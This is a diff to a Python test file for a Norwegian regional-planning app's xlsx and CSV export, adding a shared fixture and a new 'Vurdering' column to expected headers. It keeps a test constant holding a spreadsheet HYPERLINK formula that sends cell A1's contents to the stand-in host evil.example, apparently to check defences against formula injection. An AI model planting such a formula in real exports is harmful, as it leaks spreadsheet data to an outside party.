@@ -14,6 +14,10 @@ from planner.plan_io import HEADERS, PlanImportError, Problem, plan_rows, plans_
 from planner.services import project_create
 from tests.conftest import make_user
 
+# One study and its users for the whole module (tests/conftest.py `module_study`); each test's changes
+# are rolled back after it.
+pytestmark = pytest.mark.usefixtures("module_study")
+
 FORMULA = '=HYPERLINK("https://evil.example/?q="&A1;"Klikk her")'
 
 
@@ -91,11 +95,11 @@ def test_it_writes_the_team_columns_and_norwegian_labels_whatever_the_language(p
     with translation.override("en"):
         data = _export(project, "xlsx")
     rows = list(openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
-    assert rows[0] == ("Fylke", "Type", "Tittel", "År", "Status", "URL", "Merknad")
+    assert rows[0] == ("Fylke", "Type", "Tittel", "År", "Status", "URL", "Merknad", "Vurdering")
     assert len(rows) == 44
     by_title = {row[2]: row for row in rows}
     assert by_title["Utviklingsplan for Finnmark"] == (
-        "Finnmark", "Planstrategi", "Utviklingsplan for Finnmark", 2024, "Vedtatt", None, "Vedtatt mars 2025")
+        "Finnmark", "Planstrategi", "Utviklingsplan for Finnmark", 2024, "Vedtatt", None, "Vedtatt mars 2025", None)
     assert by_title["Regional plan for verdiskapning og næringsutvikling i Buskerud"][4] == "Utgått"
     assert {r[1] for r in rows[1:]} == {"Kunnskapsgrunnlag", "Planstrategi", "Integrerings-/mangfoldsplan",
                                         "Næringsplan", "Kompetanseplan"}
@@ -104,7 +108,7 @@ def test_it_writes_the_team_columns_and_norwegian_labels_whatever_the_language(p
 
 def test_the_csv_export_is_utf8_with_bom_and_semicolons(project):
     data = _export(project, "csv")
-    assert data.startswith(b"\xef\xbb\xbfFylke;Type;Tittel;\xc3\x85r;Status;URL;Merknad\r\n")
+    assert data.startswith(b"\xef\xbb\xbfFylke;Type;Tittel;\xc3\x85r;Status;URL;Merknad;Vurdering\r\n")
     assert "Møre og Romsdal;Kunnskapsgrunnlag;" in data.decode("utf-8-sig")
 
 
